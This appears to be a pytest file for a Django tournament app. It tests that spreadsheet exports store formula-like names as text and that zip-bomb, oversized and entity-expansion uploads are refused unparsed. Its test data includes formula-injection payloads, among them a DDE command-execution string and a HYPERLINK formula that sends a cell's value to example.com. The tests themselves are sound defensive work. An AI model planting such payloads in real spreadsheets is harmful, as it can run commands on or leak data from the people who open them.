"""Every workbook the project writes stores texts as texts (no formula, whatever a name begins
with), and an upload beyond the bounds is refused before openpyxl parses it."""

import io
import re
import time
import zipfile
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from accounts.roles import ORGANISER, REFEREE, create_account
from desk import excel
from printing.workbook import championship_workbook
from sample.workbooks import numbered_rows, workbook_of, zip_bomb
from tests.conftest import client_of, database_snapshot
from tournament import registration, spreadsheets
from tournament.models import Game, Player, Team, Tournament

pytestmark = pytest.mark.django_db

# What a spreadsheet program would run or follow if it took the text for a formula (OWASP's
# CSV injection list: = + - @, also after a tab or a carriage return).
DANGEROUS = [
    '=HYPERLINK("http://example.com/?leak="&A1,"klikni")',
    "=cmd|' /C calc'!A0",
    "+420 123 456",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def sheet_xml(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        }


def assert_texts_only(content: bytes, texts) -> None:
    """No cell of the workbook is a formula or an error, and each text is in a text cell."""
    xml = sheet_xml(content)
    assert xml
    for name, part in xml.items():
        assert "<f>" not in part and "<f " not in part, name
        assert 't="e"' not in part and 't="str"' not in part, name
    book = load_workbook(io.BytesIO(content))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found.setdefault(cell.value, cell.data_type)
    for text in texts:
        # XML reads a carriage return as a line feed
        stored = ILLEGAL_CHARACTERS_RE.sub("\ufffd", text).replace("\r", "\n")
        assert any(stored in value for value in found), text
        for value, data_type in found.items():
            if stored in value:
                assert data_type == "s", (value, data_type)


@pytest.fixture
def dangerous_demo(demo):
    """The demo with names, clubs, teams and the tournament named like formulas (written past
    the name rule, as data recorded before it would be)."""
    players = list(Player.objects.filter(tournament=demo).order_by("start_number"))
    for player, text in zip(players, DANGEROUS, strict=False):
        Player.objects.filter(pk=player.pk).update(name=text, club=text)
    for team, text in zip(Team.objects.filter(tournament=demo), DANGEROUS[1:], strict=False):
        Team.objects.filter(pk=team.pk).update(name=text)
    Tournament.objects.filter(pk=demo.pk).update(name=DANGEROUS[0])
    demo.refresh_from_db()
    return demo


def test_put_writes_a_text_that_looks_like_a_formula_as_a_text_cell():
    book = Workbook()
    for row, text in enumerate(DANGEROUS, start=1):
        assert spreadsheets.put(book.active, row, 1, text).data_type == "s"
    spreadsheets.put(book.active, 1, 2, 7)
    content = spreadsheets.saved(book)
    (xml,) = sheet_xml(content).values()
    assert xml.count('t="inlineStr"') == len(DANGEROUS)
    assert '<c r="B1" t="n"><v>7</v></c>' in xml
    assert_texts_only(content, DANGEROUS)


def test_the_registration_sheet_and_the_championship_export_hold_no_formula(dangerous_demo):
    texts = DANGEROUS[:]
    assert_texts_only(registration.template(dangerous_demo), texts)
    assert_texts_only(championship_workbook(dangerous_demo), texts)


def test_the_referees_game_workbook_holds_no_formula(dangerous_demo):
    game = Game.objects.get(stage__tournament=dangerous_demo, stage__kind="qualifier", number=1)
    seated = list(game.seats.values_list("player__name", flat=True))
    assert set(seated) & set(DANGEROUS)
    assert_texts_only(excel.game_workbook(game), [*set(seated) & set(DANGEROUS), DANGEROUS[0]])


def test_the_registration_sheet_reads_back_the_exact_texts(dangerous_demo):
    """A name that looks like a formula is a name: it goes out and comes back as it was (the
    ones with a tab or a carriage return lose them at the import: a name holds neither)."""
    readable = [t for t in DANGEROUS if t[0] not in "\t\r"]
    Player.objects.filter(tournament=dangerous_demo, name__in=DANGEROUS).exclude(
        name__in=readable
    ).update(name="Jana Nováková", club="")
    for number, team in enumerate(
        Team.objects.filter(tournament=dangerous_demo).exclude(name__in=readable), start=1
    ):
        Team.objects.filter(pk=team.pk).update(name=f"Družstvo {number}")
    target = Tournament.objects.create(
        slug="kopie", name="Kopie", year=2027, start_date=date(2027, 6, 12)
    )
    outcome = registration.import_players(target, registration.template(dangerous_demo))
    assert not outcome.errors, outcome.errors
    names = set(Player.objects.filter(tournament=target).values_list("name", flat=True))
    clubs = set(Player.objects.filter(tournament=target).values_list("club", flat=True))
    teams = set(Team.objects.filter(tournament=target).values_list("name", flat=True))
    assert set(readable) <= names and set(readable) <= clubs | {""}
    assert set(readable[1:]) & teams == set(
        Team.objects.filter(tournament=dangerous_demo).values_list("name", flat=True)
    ) & set(readable[1:])


# Oversized uploads ------------------------------------------------------------------------------


@pytest.fixture
def no_parsing(monkeypatch):
    """openpyxl must not be asked to parse: the refusal comes before."""

    def parse(*args, **kwargs):
        raise AssertionError("the file was parsed")

    import openpyxl  # tournament.spreadsheets imports it where it reads, by this name

    monkeypatch.setattr(openpyxl, "load_workbook", parse)


def test_a_small_handmade_workbook_reads(db):
    book = spreadsheets.read_workbook(workbook_of(numbered_rows(3)))
    assert book.sheetnames == ["Hráči"]
    assert book["Hráči"].value(3, 1) == 3 and book["Hráči"].value(2, 2) == "Hráč 2"


def test_a_sheet_of_a_hundred_thousand_rows_is_refused_unparsed(no_parsing):
    content = workbook_of(numbered_rows(100_000))
    assert len(content) < spreadsheets.max_bytes()  # the size alone does not stop it
    with pytest.raises(spreadsheets.WorkbookRefused, match="rozbalí na 11,1 MB"):
        spreadsheets.read_workbook(content)
    with pytest.raises(spreadsheets.WorkbookRefused, match="řádek 5000.*nejvýš 2000"):
        spreadsheets.read_workbook(workbook_of(numbered_rows(5_000)))


def test_a_small_file_that_unpacks_to_millions_of_rows_is_refused_unparsed(no_parsing):
    content = zip_bomb()
    assert len(content) < 1024 * 1024
    with pytest.raises(spreadsheets.WorkbookRefused, match="rozbalí"):
        spreadsheets.read_workbook(content)


def test_a_file_within_the_unpacked_size_but_over_the_rows_or_cells_is_refused(no_parsing):
    with pytest.raises(spreadsheets.WorkbookRefused, match="nejvýš 2000 řádků"):
        spreadsheets.read_workbook(workbook_of(b"<row><c/></row>" * 2001))
    with pytest.raises(spreadsheets.WorkbookRefused, match="sloupce XFD"):
        spreadsheets.read_workbook(workbook_of(b'<row r="1"><c r="XFD1"/></row>'))
    with pytest.raises(spreadsheets.WorkbookRefused, match="25000 buněk"):
        row = b"<row>" + b'<c t="n"><v>1</v></c>' * 40 + b"</row>"
        spreadsheets.read_workbook(workbook_of(row * 626))


def test_a_file_over_the_size_limit_is_refused_by_its_size(settings, no_parsing):
    settings.SPREADSHEET_MAX_BYTES = 100_000
    content = workbook_of(numbered_rows(1_500), level=0)
    assert len(content) > 100_000
    with pytest.raises(spreadsheets.WorkbookRefused, match="nejvýš 98 kB"):
        spreadsheets.read_workbook(content)
    with pytest.raises(spreadsheets.WorkbookRefused, match="větší, než tabulka smí být"):
        spreadsheets.read_workbook(io.BytesIO(content))


def test_not_a_workbook_says_so():
    for content in (b"not a spreadsheet", b"PK\x03\x04broken", workbook_of(b"<row><c")):
        with pytest.raises(spreadsheets.WorkbookRefused, match="není sešit Excelu"):
            spreadsheets.read_workbook(content)


def test_an_entity_expansion_is_refused():
    bomb = workbook_of(b"")
    entities = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(bomb)) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                data = entities + data.split(b"?>", 1)[1].replace(
                    b"<sheetData>",
                    b'<sheetData><row><c t="inlineStr"><is><t>&b;</t></is></c></row>',
                )
            target.writestr(name, data)
    with pytest.raises(spreadsheets.WorkbookRefused, match="není sešit Excelu"):
        spreadsheets.read_workbook(out.getvalue())


def upload_file(content: bytes, name: str = "soubor.xlsx") -> io.BytesIO:
    file = io.BytesIO(content)
    file.name = name
    return file


def test_the_registration_upload_refuses_oversized_sheets_at_once(demo, settings):
    organiser = create_account(username="org", role=ORGANISER, password="heslo-1234-abcd")
    client = client_of(organiser)
    url = reverse("staff:players_upload", kwargs={"slug": "mcr"})
    before = database_snapshot()
    for content, message in (
        (zip_bomb(), "rozbalí"),
        (workbook_of(numbered_rows(100_000)), "rozbalí"),
        (workbook_of(numbered_rows(5_000)), "nejvýš 2000 řádků"),
    ):
        started = time.perf_counter()
        response = client.post(url, {"file": upload_file(content)})
        elapsed = time.perf_counter() - started
        assert response.status_code == 400
        assert message in response.content.decode()
        print(f"refused in {elapsed:.2f} s")  # the figure; the bound is the benchmark's
    settings.SPREADSHEET_MAX_BYTES = 50_000
    response = client.post(url, {"file": upload_file(b"x" * 200_000)})
    assert response.status_code == 400
    assert re.search(r"Soubor má 19\d kB; tabulka může mít nejvýš 49 kB", response.content.decode())
    assert database_snapshot() == before


def test_the_referees_workbook_upload_refuses_oversized_sheets(game, settings):
    referee = create_account(username="ref", role=REFEREE, password="heslo-1234-abcd")
    client = client_of(referee)
    url = reverse(
        "desk:upload", kwargs={"slug": "mcr", "stage": "qualifier", "number": game.number}
    )
    before = database_snapshot()
    response = client.post(url, {"workbook": upload_file(zip_bomb())})
    assert response.status_code == 422 and "rozbalí" in response.content.decode()
    settings.SPREADSHEET_MAX_BYTES = 50_000
    response = client.post(url, {"workbook": upload_file(b"x" * 200_000)})
    assert response.status_code == 422 and "nejvýš 49 kB" in response.content.decode()
    assert database_snapshot() == before
